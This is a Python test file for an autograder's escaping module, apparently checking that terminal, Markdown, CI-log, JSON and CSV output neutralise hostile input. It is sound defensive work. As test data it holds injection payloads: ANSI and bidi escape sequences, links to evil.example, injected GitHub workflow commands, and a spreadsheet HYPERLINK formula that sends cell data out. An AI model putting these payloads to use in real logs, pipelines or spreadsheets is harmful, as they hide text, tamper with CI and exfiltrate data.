"""The escaping helpers (autograder/core/escape.py), one medium at a time."""

from __future__ import annotations

import csv
import io
import json
import re
import sys
import unicodedata
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from autograder.core import escape

ATTACK = (
    "\x1b[31mred\x1b[0m \x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\ \x9b31m "
    "\u202eabc\u2066 zero\u200bwidth \ufeff\x00\x07\r\n"
    "::error::x\n  ::add-mask::y\n##[warning]z ##vso[task.setvariable]1\n"
    "@team http://evil.example www.evil.example #12 [l](http://evil.example) <http://a.example> `code` ```fence"
)


def test_every_control_format_and_separator_character_is_escaped():
    """The regex's ranges cover Unicode's categories Cc, Cf, Cs, Zl and Zp completely."""
    for code in range(sys.maxunicode + 1):
        ch = chr(code)
        if ch in "\n\t":
            continue
        if unicodedata.category(ch) in ("Cc", "Cf", "Cs", "Zl", "Zp"):
            assert escape.visible(ch) != ch, f"U+{code:04X} ({unicodedata.category(ch)}) passes through"


def test_visible_shows_escapes_instead_of_controls():
    out = escape.visible(ATTACK)
    assert "\x1b" not in out and "\x9b" not in out and "\u202e" not in out and "\u200b" not in out and "\r" not in out
    assert "\\x1b[31m" in out and "\\u202e" in out and "\\x9b" in out  # visibly there, not silently dropped
    assert escape.visible("\ud800").encode("utf-8") == b"\\ud800"  # lone surrogates survive any encoder


def test_one_line_and_limit():
    assert "\n" not in escape.one_line("a\nb") and "⏎" in escape.one_line("a\nb")
    assert escape.visible("x" * 50, 10) == "x" * 9 + "…"


def test_gutter_keeps_every_line_and_wrapped_piece_behind_the_gutter():
    lines = escape.gutter("Total: 100 / 100\n✓ test 1/1 points\n" + "y" * 250, width=60)
    assert lines and all(line.startswith("│ ") for line in lines)
    assert all(len(line) <= 60 for line in lines)


def _md_tokens(text: str):
    md = MarkdownIt("commonmark").enable("table")
    for token in md.parse(text):
        yield token
        yield from token.children or []


def test_md_text_renders_as_literal_text_without_mentions_or_links():
    out = escape.md_text(ATTACK)
    tokens = list(_md_tokens(out))
    kinds = {t.type for t in tokens}
    assert not kinds & {"link_open", "image", "html_inline", "html_block", "code_inline", "fence"}, kinds
    rendered = "".join(t.content for t in tokens if t.type == "text")
    assert "@team" not in rendered and "http://" not in rendered and "www.evil" not in rendered and "#12" not in rendered
    assert "@\u200bteam" in rendered and "evil" in rendered  # still readable
    assert "\n" not in out


@pytest.mark.parametrize("text", ["a`b", "``x``", "`", "` lead", "|pipe|", ATTACK])
def test_md_code_is_one_code_span_holding_the_text(text):
    out = escape.md_code(text)
    tokens = [t for t in _md_tokens(out) if t.type not in ("paragraph_open", "paragraph_close", "inline")]
    assert [t.type for t in tokens] == ["code_inline"], tokens
    assert tokens[0].content.strip() == escape.one_line(text).strip()


def test_md_code_in_a_table_cell_keeps_the_table_intact():
    cell = escape.md_code("a | b | c", table=True)
    table = f"| x | y |\n|---|---|\n| {cell} | 2 |\n"
    tokens = list(_md_tokens(table))
    assert sum(t.type == "td_open" for t in tokens) == 2


def test_md_block_cannot_be_closed_from_inside():
    lines = escape.md_block("```\n````\n# not a heading\n<script>x</script>\n@team", indent="  ")
    tokens = [t for t in _md_tokens("\n".join(lines)) if t.type != "inline"]
    assert [t.type for t in tokens] == ["fence"], tokens
    assert "<script>" in tokens[0].content and "@team" in tokens[0].content  # inert inside the fence


def test_workflow_command_escaping():
    data = escape.gh_data("50%\r\nnext::line ##[error]")
    assert "\n" not in data and "\r" not in data and "%25" in data and "%0A" in data and "##" not in data
    prop = escape.gh_property("a:b,c\nd")
    assert ":" not in prop and "," not in prop and "\n" not in prop
    for line in escape.gh_log(ATTACK):
        assert not escape.is_workflow_command(line), line
    assert escape.is_workflow_command("  ::error::x") and escape.is_workflow_command("x ##[group]y")


def test_plain_inert_has_no_command_mention_or_link():
    out = escape.plain_inert(ATTACK, None)
    assert "::" not in out and "##" not in out and "@team" not in out and "http://" not in out and "\n" not in out


def test_json_escape_keeps_the_data():
    data = {"s": ATTACK + "\ud800\U000e0041"}
    text = escape.json_escape_invisible(json.dumps(data, ensure_ascii=False))
    assert json.loads(text) == data
    assert "\x1b" not in text and "\u202e" not in text and "\x9b" not in text
    text.encode("utf-8")  # no lone surrogate left to crash a writer


# --------------------------------------------------------------------------- CSV
@pytest.mark.parametrize(
    "text", ['=HYPERLINK("http://x/?"&A1,"y")', "+dave", "@SUM(1+1)", "-2+3", "-", "\tx", "\r=1", "\n=1", "＝1", "-1e5"]
)
def test_a_csv_text_cell_a_spreadsheet_would_run_becomes_text(text):
    one_line = " ".join(text.split()) if "\n" in text or "\r" in text else text  # a row per record
    assert escape.csv_cell(text) == "'" + one_line


@pytest.mark.parametrize("value", ["-2", "17.5", "-0.25", "1001", "a=b", "Ana Lima", "ana@uni.edu", ""])
def test_ids_numbers_and_plain_text_stay_as_they_are_in_csv(value):
    assert escape.csv_cell(value) == value  # a negative number is a number, not a formula


def test_csv_numbers_are_written_as_numbers_and_the_writer_round_trips():
    numbers = (20.0, 12.75, -3, 0.0, -0.0, 1 / 3, None)
    assert [escape.csv_cell(v) for v in numbers] == ["20", "12.75", "-3", "0", "0", "0.3333", ""]
    rows = [["=1+1", 2.5, 'a "quoted", cell'], ["line\nbreak", -1, "-2+3"]]
    back = list(csv.reader(io.StringIO(escape.csv_text(rows))))
    assert back == [["'=1+1", "2.5", 'a "quoted", cell'], ["line break", "-1", "'-2+3"]]


def test_every_csv_the_grader_writes_goes_through_the_one_writer():
    """Issue 28 F: only gradebook.csv was neutralised, canvas.csv and grades.csv were not. One
    writer (escape.csv_text) for every CSV file: no other module builds CSV rows itself."""
    package = Path(escape.__file__).resolve().parents[1]
    offenders = [
        f"{path.relative_to(package)}:{number}"
        for path in sorted(package.rglob("*.py"))
        if path.name != "escape.py"
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1)
        if re.search(r"\bcsv\.(writer|DictWriter)\b", line)
    ]
    assert not offenders, offenders


def test_a_csv_cell_shows_control_and_bidi_characters_and_keeps_what_a_name_needs():
    """A name in gradebook.csv or an LMS file never runs a terminal's escapes (``cat`` of the
    file) or reorders its cell in a spreadsheet (blind red-team tester R-BZ: a folder and a
    Gradescope submitter's name); joiners and marks a name may need stay as they are."""
    from autograder.core import escape

    assert escape.csv_cell("esc\x1b[31mRED\x1b]0;T\x07\u202eevil\u2066x") == "esc\\x1b[31mRED\\x1b]0;T\\x07\\u202eevil\\u2066x"
    assert escape.csv_cell("\x1b=1+1").startswith("\\x1b")
    assert escape.csv_cell("مهر\u200cسا") == "مهر\u200cسا" and escape.csv_cell("Zoë O'Neil") == "Zoë O'Neil"
    assert escape.csv_cell("=1+1") == "'=1+1" and escape.csv_cell("a\nb") == "a b"
